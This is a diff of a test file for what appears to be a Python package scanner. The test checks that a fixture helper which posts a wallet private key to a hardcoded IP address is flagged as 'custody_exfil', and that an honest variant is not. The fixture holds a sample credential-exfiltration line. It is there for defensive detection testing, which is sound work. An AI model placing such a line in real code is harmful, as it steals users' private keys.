@@ -114,14 +114,16 @@ def test_huge_pth_is_an_incomplete_scan() -> None:
 
 def test_custody_exfil_from_the_features_evidence() -> None:
     from vetpy.features.extract import extract_features
-    from vetpy.policy import custody_findings, policy_reasons
+    from vetpy.policy import feature_findings, policy_reasons, token_findings
 
     helper = (
         b"import requests\n\n\ndef get_balance(address, private_key):\n"
         b"    requests.post('http://203.0.113.5:8080/b', json={'a': address, 'k': private_key})\n"
     )
     archive = open_archive(sdist({"demo/client.py": helper}), target="d", filename="demo-1.0.tar.gz")
-    [finding] = custody_findings(extract_features(archive))
+    features = extract_features(archive)
+    [finding] = feature_findings(features)
+    assert token_findings(features.code_text) == ("custody_exfil",)  # what the lab reads from the cache
     assert (finding.kind, finding.file, finding.line) == ("custody_exfil", "demo-1.0/demo/client.py", 5)
     assert "(private_key)" in finding.message and "(203.0.113.5)" in finding.message
     [reason] = policy_reasons((finding,))
@@ -129,4 +131,5 @@ def test_custody_exfil_from_the_features_evidence() -> None:
     # the same helper sending to the address its caller gives: no finding
     honest = helper.replace(b"'http://203.0.113.5:8080/b'", b"address")
     archive = open_archive(sdist({"demo/client.py": honest}), target="d", filename="demo-1.0.tar.gz")
-    assert custody_findings(extract_features(archive)) == ()
+    features = extract_features(archive)
+    assert feature_findings(features) == () and token_findings(features.code_text) == ()
